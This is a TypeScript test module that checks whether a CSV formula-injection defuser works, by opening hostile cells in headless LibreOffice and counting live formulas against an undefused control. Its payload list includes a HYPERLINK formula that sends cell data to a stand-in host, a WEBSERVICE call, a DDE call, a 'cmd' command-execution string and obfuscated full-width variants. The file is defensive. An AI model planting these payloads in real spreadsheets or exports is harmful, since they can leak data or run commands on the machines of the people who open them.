/**
 * Formulas: hostile cells opened by a real spreadsheet, as a comma file and split at other signs.
 *
 * LibreOffice writes what it made of them as flat XML, in which every live cell has a
 * `table:formula`. The control is the same file without the defusing.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { stringify } from 'csv-stringify/sync';
import { defused } from '../../db/exchange/defuse.ts';

const PAYLOADS = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://example.invalid/?"&A1;"see")',
  '=WEBSERVICE("http://example.invalid/")',
  '=DDE("soffice";"x";"y")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '+SUM(1;2)',
  '-1+1',
  '-2+3+cmd',
  '@SUM(1;2)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
] as const;
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '"',
  "'",
  '""',
  '\u00a0',
  '\u200b',
  '\ufeff',
  'calm;',
  'calm\t',
  'calm\n',
  'calm;"',
  'calm\r\n ',
] as const;

/** 15 payloads behind 18 beginnings. */
export const hostileCells = (): readonly string[] =>
  BEFORE.flatMap((before) => PAYLOADS.map((payload) => `${before}${payload}`));

/** How a program may split the file: separator and text mark, as LibreOffice's filter numbers them. */
const SPLITS = [
  ['comma', '44,34'],
  ['semicolon', '59,34'],
  ['semicolon, quotes not heeded', '59,0'],
  ['tab', '9,34'],
  ['tab, quotes not heeded', '9,0'],
] as const;

export type FormulaFigure = {
  readonly split: string;
  readonly cells: number;
  /** Cells with a formula, of ours and of the control. */
  readonly live: number;
  readonly control: number;
};

const UTF8 = 76;
/** From the first line, no column types, quoted is not text, numbers are found, formulas are run. */
const filterOf = (split: string): string =>
  `CSV:${split},${UTF8},1,,0,false,true,false,false,false,-1,true`;

function liveCells(folder: string, name: string, cells: readonly string[], split: string): number {
  const csv = join(folder, `${name}.csv`);
  const rows = cells.map((cell, index) => [String(index), cell, 'end']);
  writeFileSync(csv, `\uFEFF${stringify(rows, { record_delimiter: 'windows' })}`);
  const profile = pathToFileURL(join(folder, 'profile')).href;
  const ran = spawnSync(
    'soffice',
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      `--infilter=${filterOf(split)}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      csv,
    ],
    { encoding: 'utf8', timeout: 180_000 },
  );
  if (ran.status !== 0) throw new Error('The spreadsheet did not open the file.');
  const made = join(folder, `${name}.fods`);
  const text = readFileSync(made, 'utf8');
  rmSync(made);
  if (!text.includes('<table:table-row')) throw new Error('The spreadsheet made no table.');
  return text.split('table:formula=').length - 1;
}

export function hasSpreadsheet(): boolean {
  return spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
}

/** One figure for each way of splitting. */
export function openFormulas(): readonly FormulaFigure[] {
  const folder = mkdtempSync(join(tmpdir(), 'vigil-formulas-'));
  const cells = hostileCells();
  try {
    return SPLITS.map(([split, numbers]) => ({
      split,
      cells: cells.length,
      live: liveCells(folder, 'defused', cells.map(defused), numbers),
      control: liveCells(folder, 'control', cells, numbers),
    }));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
